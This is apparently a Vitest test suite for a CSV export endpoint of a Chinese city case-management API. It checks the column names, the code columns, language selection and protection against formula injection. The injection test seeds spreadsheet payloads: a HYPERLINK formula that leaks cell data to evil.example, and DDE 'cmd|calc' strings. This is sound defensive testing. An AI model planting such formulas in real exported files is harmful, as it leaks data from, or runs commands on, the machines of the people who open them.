import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validCase } from '../testing/caseInputs.js';
import { parseCsv } from '../testing/parseCsv.js';
import { startTestServer, type TestServer } from '../testing/testServer.js';

describe('GET /api/cases/export.csv', () => {
  let server: TestServer;
  const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0", '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc'];

  beforeAll(async () => {
    server = await startTestServer({ scheduler: { every: () => () => {} } });
    for (const description of formulas) expect((await server.api.post('/api/cases', validCase({ description, address: description }))).status).toBe(201);
    expect((await server.api.post('/api/cases', validCase({ category: 'SG', subcategory: 'SG01', urgency: 'major', description: '夜间施工噪音' }))).status).toBe(201);
  });
  afterAll(async () => server.close());

  const exportCsv = async (query: string) => {
    const res = await fetch(`${server.url}/api/cases/export.csv${query}`, { headers: server.api.headers });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM: Excel and WPS open the Chinese right
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
    return { header: header!, rows, cell: (row: string[], column: string) => row[header!.indexOf(column)] };
  };

  it('writes no cell a spreadsheet would run as a formula', async () => {
    const { rows, cell } = await exportCsv('');
    expect(rows).toHaveLength(formulas.length + 1);
    for (const row of rows) for (const value of row) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
    const descriptions = rows.map((r) => cell(r, '问题描述'));
    for (const formula of formulas) {
      expect(descriptions).toContain(`'${formula}`);
      expect(rows.map((r) => cell(r, '地址'))).toContain(`'${formula}`);
    }
  });

  it('names columns, categories, statuses and places in Chinese, with the codes in their own columns', async () => {
    const { header, rows, cell } = await exportCsv('?category=SG');
    expect(header.slice(0, 4)).toEqual(['案件编号', '上报时间', '来源渠道', '来源渠道代码']);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    const grid = cell(row, '网格代码')!;
    const named = (code: string) => server.model.node(code)!.name;
    expect({
      channel: [cell(row, '来源渠道'), cell(row, '来源渠道代码')],
      category: [cell(row, '大类'), cell(row, '大类代码'), cell(row, '小类'), cell(row, '小类代码')],
      urgency: [cell(row, '紧急程度'), cell(row, '紧急程度代码')],
      status: [cell(row, '状态'), cell(row, '状态代码')],
      places: [cell(row, '区县'), cell(row, '街道'), cell(row, '社区'), cell(row, '网格')],
      codes: [cell(row, '区县代码'), cell(row, '街道代码'), cell(row, '社区代码')],
    }).toEqual({
      channel: ['网格员巡查', 'grid_patrol'],
      category: ['施工管理', 'SG', '夜间施工噪音', 'SG01'],
      urgency: ['重大', 'major'],
      status: ['待立案', 'reported'],
      places: [named(grid.slice(0, 6)), named(grid.slice(0, 9)), named(grid.slice(0, 12)), named(grid)],
      codes: [grid.slice(0, 6), grid.slice(0, 9), grid.slice(0, 12)],
    });
    expect(cell(row, '区县')).toBe('金水区');
  });

  it('names the columns in English with lang=en, and refuses another language naming the field', async () => {
    const { header, rows, cell } = await exportCsv('?category=SG&lang=en');
    expect(header.slice(0, 6)).toEqual(['id', 'reportedAt', 'channelName', 'channel', 'categoryName', 'category']);
    expect(cell(rows[0]!, 'category')).toBe('SG');
    expect(await server.api.get('/api/cases/export.csv?lang=fr')).toMatchObject({ status: 400, body: { error: { field: 'lang' } } });
    // The case list itself takes no lang.
    expect(await server.api.get('/api/cases?lang=en')).toMatchObject({ status: 400 });
  });
});
